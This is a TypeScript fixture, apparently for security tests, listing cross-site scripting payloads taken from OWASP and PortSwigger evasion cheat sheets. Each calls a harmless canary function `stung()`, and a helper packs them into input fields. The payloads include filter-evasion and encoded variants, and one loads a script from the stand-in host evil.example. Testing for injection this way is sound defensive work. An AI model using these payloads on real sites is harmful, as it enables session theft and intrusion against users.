/** Markup and scripts as attackers try them, after OWASP's XSS Filter Evasion Cheat Sheet and PortSwigger's; each would call `stung`, or leave an element named `sting`, where it is taken for markup or code. */
export const scriptStrings: readonly string[] = [
  '<script>stung()</script>', '<img src=x onerror=stung()>', '<svg onload=stung()>', '"><script>stung()</script>', '\'><script>stung()</script>', '"><img src=x onerror=stung()>', '\'"><svg/onload=stung()>',
  'javascript:stung()', 'JaVaScRiPt:stung()', 'java\tscript:stung()', 'data:text/html,<script>parent.stung()</script>', '<a href=javascript:stung() id=sting>x</a>', '<iframe src=javascript:parent.stung() id=sting>',
  '<iframe srcdoc="<script>parent.stung()</script>" id=sting>', '<body onload=stung()>', '<input autofocus onfocus=stung() id=sting>', '<details open ontoggle=stung() id=sting>', '<video src=x onerror=stung() id=sting>',
  '<audio src=x onerror=stung()>', '<object data=javascript:stung() id=sting>', '<embed src=javascript:stung() id=sting>', '<form action=javascript:stung() id=sting><button>', '<button formaction=javascript:stung() id=sting>x',
  '<math><mi xlink:href=javascript:stung() id=sting>', '<svg><script>stung()</script></svg>', '<svg><animate onbegin=stung() attributeName=x dur=1s>', '<svg><a xlink:href=javascript:stung() id=sting>', '<style>@import "javascript:stung()"</style>',
  '<div style="background:url(javascript:stung())" id=sting>', '<link rel=stylesheet href=javascript:stung() id=sting>', '<meta http-equiv=refresh content="0;url=javascript:stung()" id=sting>', '<base href=javascript:stung()// id=sting>',
  '<marquee onstart=stung() id=sting>', '<select autofocus onfocus=stung() id=sting>', '<textarea autofocus onfocus=stung() id=sting>', '<keygen autofocus onfocus=stung() id=sting>', '<isindex action=javascript:stung() id=sting>',
  '<x onclick=stung() id=sting>click</x>', '<b id=sting>bold</b>', '</title><script>stung()</script>', '</textarea><script>stung()</script>', '</script><script>stung()</script>', '--><script>stung()</script>', ']]><script>stung()</script>',
  '<scr<script>ipt>stung()</scr</script>ipt>', '<<script>stung();//<</script>', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', '<img src="x` `<script>stung()</script>"` `>', '<img/src=x/onerror=stung()>', '<img src=x onerror="&#115;tung()">',
  '&lt;script&gt;stung()&lt;/script&gt;', '&#60;script&#62;stung()&#60;/script&#62;', '\\u003cscript\\u003estung()\\u003c/script\\u003e', '\\x3cscript\\x3estung()\\x3c/script\\x3e', '%3Cscript%3Estung()%3C/script%3E',
  '${stung()}', '{{constructor.constructor("stung()")()}}', '";stung();//', '\';stung();//', '`;stung();//', '<noscript><p title="</noscript><img src=x onerror=stung()>">', '<template><script>stung()</script></template>',
];

/** As many as fit, the n-th first: over all fields every one of them is tried. */
export function scriptText(longest: number, nth: number): string {
  let text = '';
  for (let i = 0; i < scriptStrings.length; i++) {
    const next = scriptStrings[(nth + i) % scriptStrings.length];
    if (text.length + next.length + 1 <= longest) text += `${text === '' ? '' : ' '}${next}`;
  }
  return text;
}
